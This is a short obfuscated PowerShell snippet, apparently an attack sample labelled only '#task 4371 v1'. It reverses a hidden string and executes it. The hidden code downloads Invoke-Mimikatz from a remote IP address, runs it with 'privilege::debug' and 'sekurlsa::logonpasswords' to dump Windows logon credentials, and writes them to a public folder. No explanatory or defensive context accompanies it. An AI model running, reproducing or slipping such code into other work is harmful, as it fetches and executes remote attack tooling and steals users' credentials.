$vckka='
txt.o\cilbuP\sresU\:C eliF-tuO | ''"sdrowssapnogol::aslrukes" "gubed::egelivirp"'' dnammoC- ztakimiM-ekovnI
)''1sp.ztakimiM-ekovnI/32.001.15.891//:ptth''(gnirtSdaolnwoD.)tneilCbeW.teN tcejbO-weN( XEI
1v 1734 ksat #'.ToCharArray(); [array]::Reverse($vckka); iex (-join $vckka)